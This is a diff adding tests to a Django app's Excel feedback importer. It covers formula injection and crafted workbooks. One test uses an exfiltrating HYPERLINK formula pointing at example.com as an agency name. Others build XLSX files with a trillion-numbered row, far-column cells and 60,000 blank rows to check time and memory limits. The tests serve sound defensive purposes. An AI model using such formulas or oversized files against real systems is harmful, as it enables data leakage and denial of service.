@@ -1,6 +1,10 @@
 import datetime
 import io
+import re
+import signal
+import tracemalloc
 import zipfile
+from contextlib import contextmanager
 
 import openpyxl
 import pytest
@@ -12,7 +16,7 @@ from dialogues.models import SessionStatus
 from feedback.imports import COLUMNS, MAX_BYTES, MAX_ROWS, kind_labels, outcome_labels
 from feedback.models import Field, Opinion, OpinionKind, OpinionStatus
 
-from .factories import agency, make_plan, make_session, unit
+from .factories import agency, district, make_plan, make_session, unit
 
 TEMPLATE_URL = reverse("feedback:opinion-import-template")
 HEADERS = [column.header for column in COLUMNS]
@@ -482,6 +486,27 @@ def test_the_templates_drop_downs_hold_the_active_lists(officer, session):
     assert stops["A2"] == stops["B2"] == stops["F2"] == "stop"
 
 
+def test_the_template_writes_a_name_that_looks_like_a_formula_as_text(officer, session, hamlet):
+    formula = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'
+    Agency.objects.create(name=formula, unit=district())
+    Hamlet.objects.filter(pk=hamlet.pk).update(name="+1 Thôn Đông")
+
+    book = template_for(officer, session)
+
+    cells = [cell for row in book["Danh mục"].iter_rows() for cell in row if cell.value]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + formula in choices(book, "Cơ quan được chuyển")
+    assert "'+1 Thôn Đông" in choices(book, "Thôn/tổ dân phố")
+    # Chosen from the drop-downs, the names import as the agency and the hamlet they are.
+    labels_ = labels(book)
+    fill(book, [{"Lĩnh vực": "Đất đai", "Nội dung": "Ý kiến", "Thôn/tổ dân phố": "'+1 Thôn Đông",
+                 "Kết quả": labels_["outcome"]["forwarded"],
+                 "Cơ quan được chuyển": "'" + formula}])  # fmt: skip
+    assert upload(officer, session, book).status_code == 302
+    opinion = Opinion.objects.get()
+    assert (opinion.agency.name, opinion.hamlet_id) == (formula, hamlet.pk)
+
+
 def test_the_instructions_sheet_describes_two_examples_under_the_headers(officer, session):
     sheet = template_for(officer, session)["Hướng dẫn"]
 
@@ -510,3 +535,114 @@ def test_a_template_without_a_session_offers_the_agencies_of_the_users_units(off
     book = openpyxl.load_workbook(io.BytesIO(response.content))
     assert agency("TN&MT").name in choices(book, "Cơ quan được chuyển")
     assert choices(book, "Thôn/tổ dân phố") is None
+
+
+# --- files that claim more than they hold --------------------------------------------------------
+
+
+def _with_sheet_xml(book, edit) -> bytes:
+    """The workbook saved, with its data sheet's XML changed by `edit` (openpyxl writes no row
+    past 1,048,576 and no such file, but anyone can zip one)."""
+    saved = io.BytesIO()
+    book.save(saved)
+    output = io.BytesIO()
+    with zipfile.ZipFile(saved) as source, zipfile.ZipFile(output, "w") as target:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                data = edit(data.decode()).encode()
+            target.writestr(info, data)
+    return output.getvalue()
+
+
+class TookTooLong(BaseException):
+    """Not an Exception: the import's own `except Exception` must not turn it into a message."""
+
+
+@contextmanager
+def at_most(seconds):
+    """Fails the test, instead of hanging it, when the block runs longer than `seconds`."""
+
+    def expire(_signum, _frame):
+        raise TookTooLong(f"still reading after {seconds} s")
+
+    previous = signal.signal(signal.SIGALRM, expire)
+    signal.alarm(seconds)
+    try:
+        yield
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, previous)
+
+
+def test_a_row_numbered_a_trillion_is_read_as_the_one_row_it_is(officer, session):
+    """A 2 KB file with a row numbered 1,000,000,000,000 once walked every row number up to it."""
+    book = workbook_with(["Lĩnh vực", "Nội dung"], [["Đất đai", "Ý kiến thật"]])
+    far = (
+        '<row r="1000000000000"><c r="A1000000000000" t="inlineStr"><is><t>Đất đai</t></is></c>'
+        '<c r="B1000000000000" t="inlineStr"><is><t>Ý kiến xa</t></is></c></row></sheetData>'
+    )
+    content = _with_sheet_xml(book, lambda xml: xml.replace("</sheetData>", far))
+    assert len(content) < 5000
+
+    with at_most(10):
+        response = upload(officer, session, content)
+
+    assert response.status_code == 302
+    assert sorted(Opinion.objects.values_list("content", flat=True)) == ["Ý kiến thật", "Ý kiến xa"]
+
+
+def test_a_cell_in_the_last_column_does_not_widen_every_row(officer, session):
+    from feedback.imports import _read_rows
+
+    rows = [["Đất đai", f"Ý kiến {n}"] for n in range(MAX_ROWS)]
+    book = workbook_with(["Lĩnh vực", "Nội dung"], rows)
+    last = '<c r="XFD{n}" t="inlineStr"><is><t>x</t></is></c></row>'
+    content = _with_sheet_xml(
+        book,
+        lambda xml: re.sub(
+            r'(<row r="(\d+)"[^>]*>.*?)</row>', lambda m: m[1] + last.format(n=m[2]), xml
+        ),
+    )
+
+    # Reading alone: once 16,384 values a row, 16 million (130 MB) for a file of 40 KB.
+    tracemalloc.start()
+    try:
+        header, read = _read_rows(as_upload(content))
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert header[1][:2] == ["Lĩnh vực", "Nội dung"]
+    assert len(read) == MAX_ROWS
+    assert peak < 20 * 1024 * 1024, peak
+
+    assert upload(officer, session, content).status_code == 302
+    assert Opinion.objects.count() == MAX_ROWS
+
+
+def test_reading_a_file_stops_at_its_time_limit(officer, session, settings, monkeypatch):
+    from feedback import imports
+
+    clock = iter(range(0, 10_000, 5))
+    monkeypatch.setattr(imports.time, "monotonic", lambda: next(clock))
+    rows = [["Đất đai", f"Ý kiến {n}"] for n in range(10)]
+
+    response = upload(officer, session, workbook_with(["Lĩnh vực", "Nội dung"], rows))
+
+    assert file_error_codes(response) == ["too_slow"]
+    assert not Opinion.objects.exists()
+
+
+def test_a_file_of_blank_rows_stops_at_the_cells_it_holds(officer, session):
+    """Empty rows are skipped, but every row the file holds counts against the limit."""
+    blank = "".join(
+        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t> </t></is></c></row>'
+        for n in range(3, 60_003)
+    )
+    book = workbook_with(["Lĩnh vực", "Nội dung"], [["Đất đai", "Ý kiến"]])
+    content = _with_sheet_xml(book, lambda xml: xml.replace("</sheetData>", blank + "</sheetData>"))
+
+    with at_most(10):
+        response = upload(officer, session, content)
+
+    assert file_error_codes(response) == ["too_many_rows"]
